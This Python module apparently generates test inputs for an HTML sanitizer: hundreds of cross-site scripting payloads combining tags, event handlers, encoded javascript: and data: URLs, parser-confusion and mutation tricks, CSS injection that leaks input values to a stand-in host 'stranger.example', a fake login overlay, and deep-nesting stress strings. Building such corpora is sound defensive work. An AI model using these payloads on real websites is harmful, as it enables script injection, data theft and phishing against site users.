"""Hostile HTML by the hundred: families of tags × attributes × spellings × contexts, and tricks.

What a payload manages to run sets the title of its page to `hit` and opens a dialog; what it manages to load
is asked of `HOST`, or of a path with `hit` in it.
"""

from collections.abc import Iterator
from itertools import cycle, product

HOST = "stranger.example"
JS = "document.title=/hit/.source;alert(1)"

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "marquee",
    "iframe",
    "math",
    "object data=x",
    "a href=# autofocus",
    "button autofocus",
    "style",
    "table background=x",
    "x tabindex=1 autofocus",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onbegin", "onscroll")
_GAPS = (" ", "/", "\t", "\n", "\f", "/ /", " x=y ", '"', "\x00")
_QUOTES = ('"{}"', "'{}'", "{}", " = \n'{}'", "`{}`")

_SCRIPTS = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " \x01javascript:{js}",
    "java\tscript:{js}",
    "java&#10;script:{js}",
    "&#106;&#97;vascript:{js}",
    "&#x6a&#x61vascript&colon;{js}",
    "javascript&Tab;:{js}",
    "&#0000106avascript:{js}",
    "javascript://%0a{js}",
    "\u3000javascript:{js}",
    "ｊavascript:{js}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
    "blob:https://{host}/hit",
    "cid:x&quot; onerror=&quot;{js}",
    "cid:javascript:{js}",
    "view-source:http://{host}/hit",
)
_REMOTE = ("http://{host}/hit", "//{host}/hit", "/hit", "\\\\{host}\\hit", "ht\ntps://{host}/hit")
_CONTEXTS = (
    '<a href="{url}" ping="{url}" autofocus>a</a>',
    '<img src="{url}">',
    '<img src="{url}" width=1 height=1>',
    '<img srcset="{url} 1x, {url} 2x">',
    '<picture><source srcset="{url}"><img></picture>',
    '<image src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<frameset><frame src="{url}"></frameset>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<applet codebase="{url}" code=x></applet>',
    '<video src="{url}" poster="{url}" autoplay></video>',
    '<audio src="{url}" autoplay></audio>',
    '<video><source src="{url}"><track default src="{url}"></video>',
    '<input type=image src="{url}">',
    '<form action="{url}" id=f><input name=a autofocus><button formaction="{url}">b</button></form>',
    '<link rel=stylesheet href="{url}">',
    '<link rel=prefetch href="{url}"><link rel=preload as=image href="{url}"><link rel=icon href="{url}">',
    '<link rel=prerender href="{url}"><link rel=modulepreload href="{url}"><link rel=manifest href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<base href="{url}"><img src=hit>',
    '<body background="{url}">',
    '<table background="{url}"><tr><td background="{url}">b</table>',
    '<bgsound src="{url}">',
    '<script src="{url}"></script>',
    '<script type=module>import "{url}"</script>',
    '<svg><image href="{url}" xlink:href="{url}"/><use href="{url}#a"/><a xlink:href="{url}">x</a></svg>',
    '<svg><filter id=a><feImage href="{url}"/></filter><rect filter="url(#a)" fill="url({url})"/></svg>',
    '<svg><a><animate attributeName=href values="{url}"/></a><set attributeName=href to="{url}"/></svg>',
    '<math href="{url}"><maction actiontype="statusline#{url}" xlink:href="{url}">x</math>',
    '<area href="{url}"><map><area href="{url}"></map>',
    '<div style="background:url({url})">b</div>',
    "<div style='background-image:image-set(\"{url}\" 1x)'>b</div>",
    '<ul style="list-style:url({url})"><li style="cursor:url({url}),auto;content:url({url})">b</ul>',
    '<div style="background:u\\72l({url});border-image:url({url});mask:url({url})">b</div>',
    '<div style="color:red;/**/background/**/:/**/url({url})">b</div>',
    '<style>@import "{url}";@font-face{{font-family:x;src:url({url})}}*{{background:url({url})}}</style>',
    '<blockquote cite="{url}"><q cite="{url}">q</q><del cite="{url}">d</del></blockquote>',
    '<html manifest="{url}"><head profile="{url}">',
    '<img usemap="{url}" longdesc="{url}" lowsrc="{url}" dynsrc="{url}">',
    '<portal src="{url}"></portal><fencedframe src="{url}"></fencedframe>',
    '<object type="image/svg+xml"><param name=movie value="{url}"></object>',
    '<?xml-stylesheet href="{url}"?><x>y</x>',
    '<div style="color:red" style="background:url({url})">b</div>',
)
_FOOLS = (
    "<script>{js}</script>",
    "<script\n>{js}</script\t>",
    "<ScRiPt/x>{js}</sCrIpT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>",
    "<script>{js}",
    "</script><script>{js}</script>",
    '<script x=">">{js}</script>',
    "<script\x00>{js}</script>",
    "<\x00script>{js}</script>",
    "\ufeff<script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<!-- --!><img src=x onerror={js}> -->",
    "<!--<img src='--><img src=x onerror={js}>'>",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
    "<?php <img src=x onerror={js}> ?>",
    "<template><img src=x onerror={js}></template>",
    "<template shadowrootmode=open><img src=x onerror={js}></template>",
    '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
    '<noembed><img title="</noembed><img src=x onerror={js}>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror={js}>"></noframes>',
    '<title><a title="</title><img src=x onerror={js}>"></title>',
    '<textarea><p title="</textarea><img src=x onerror={js}>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror={js}>"></xmp>',
    "<listing><img onerror={js} src=x></listing>",
    "<plaintext><img src=x onerror={js}>",
    "<style><!--</style><img src=x onerror={js}>--></style>",
    '<style><p title="</style><img src=x onerror={js}>"></style>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={js}></style></math>",
    "<math><mi><b><style><b title='</style><img src=x onerror={js}>'>",
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    '<svg><desc><p><style><a title="</style><img src onerror={js}>"></svg>',
    "<svg><foreignObject><math><mi><style></p><img src onerror={js}></style></svg>",
    "<svg><style>&lt;img src=x onerror={js}&gt;</style></svg>",
    "<svg><script>alert&lpar;1)</script><script href='data:,{js}'/></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<form id=a><form id=b><input name=parentNode><img name=attributes src=x onerror={js}>",
    "<table><td><svg><p><style><!--</style><img src=x onerror={js}>-->",
    "<select><template><img src=x onerror={js}></template></select>",
    "<select><option><style></select><img src=x onerror={js}></style>",
    "<p title='&lt;/p&gt;&lt;img src=x onerror={js}&gt;'>&lt;img src=x onerror={js}&gt;</p>",
    '<img src="x` `<script>{js}</script>"` `>',
    '<img alt="`><img src=xx:x onerror={js}//">',
    '<a title="--><img src=x onerror={js}>">x</a>',
    '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
    "<iframe srcdoc='<meta http-equiv=refresh content=0;url=http://{host}/hit>'></iframe>",
    "<object><param name=src value='javascript:{js}'><embed code='http://{host}/hit'></object>",
    "<isindex action='javascript:{js}' type=image autofocus>",
    "<keygen autofocus onfocus={js}>",
    "<x contenteditable onfocus={js} id=y autofocus>z</x>",
    "<div style='width:expression({js})'>b</div>",
    "<div style='behavior:url(#default#time2);-moz-binding:url(http://{host}/hit#x)'>b</div>",
    "<style>body{{width:ex/**/pression({js})}}</style>",
    "<style>@keyframes a{{}}b{{animation:a}}</style><b style='animation:a 1s' onanimationstart={js}>b</b>",
    "<style>input[value^=a]{{background:url(http://{host}/hit)}}</style><input value=abc>",
    "<div style='position:fixed;inset:0;z-index:9999'><a href='http://{host}/'>login</a></div>",
    "<xml id=x><i><![CDATA[<img src=x onerror={js}>]]></i></xml><span datasrc=#x datafld=i></span>",
    "<event-source src='http://{host}/hit'>",
    "<dialog open onclose={js}><form method=dialog><button autofocus>x</form></dialog>",
    "<button popovertarget=x autofocus>b</button><div popover id=x onbeforetoggle={js}>p</div>",
    "<slot onslotchange={js}><b>x</b></slot>",
    "<div is=x-y onfocusin={js} tabindex=0 autofocus>b</div>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\x1b$B<script>\x1b(B{js}</script>",
    "\u202e<script>{js}</script>\u202c<b>\u2066\u2067abc</b>",
    "<a name=body><a id=cookie name=cookie href=x><img name=getElementById><form name=forms>",
    '<img src=x:x onerror="&#x64;ocument.title=/hit/.source">',
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set onend={js} attributeName=x dur=1ms></svg>",
    "<svg><a xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=javascript:{js}><circle r=9 /></a></svg>",
    "<math><mstyle href=javascript:{js}>x</mstyle></math>",
    "<meta charset=utf-7><meta http-equiv=Set-Cookie content='hit=1'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *"><img src=x onerror={js}>',
    "<base target=_top><base href=//{host}/>",
    "<html><body></body></html><script>{js}</script>",
)


def _handled() -> Iterator[str]:
    """Handlers in every spelling that some browser once took for an attribute."""
    gaps, quotes = cycle(_GAPS), cycle(_QUOTES)
    for tag, handler in product(_TAGS, _HANDLERS):
        name = tag.partition(" ")[0]
        yield f"<{tag}{next(gaps)}{handler}={next(quotes).format(JS)}>{name}</{name}>"


def _addressed() -> Iterator[str]:
    """Every place that takes an address, with addresses that run and addresses that tell."""
    for context, url in product(_CONTEXTS, _REMOTE):
        yield context.format(url=url.format(host=HOST))
    places, scripts = cycle(_CONTEXTS), cycle(_SCRIPTS)
    for _ in range(len(_CONTEXTS) * len(_SCRIPTS) // 4):
        yield next(places).format(url=next(scripts).format(js=JS, host=HOST))


def _deep() -> Iterator[str]:
    """Nested as deep as we clean at all, and a little deeper; the worst sits at the bottom."""
    worst = f"<img src=x onerror={JS}>"
    for tag in ("div", "table><tr><td", "b", "blockquote", "svg", "math", "font", "form", "a"):
        yield f"<{tag}>" * 60 + worst
    yield "<div>" * 400 + worst
    yield f"<p {' '.join(f'a{n}=1' for n in range(2_000))}>" + worst
    yield f'<a title="{"x" * 60_000}" onfocus="{JS}" autofocus>x</a>'


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    fools = (one.format(js=JS, host=HOST) for one in _FOOLS)
    return list(dict.fromkeys([*fools, *_handled(), *_addressed(), *_deep()]))
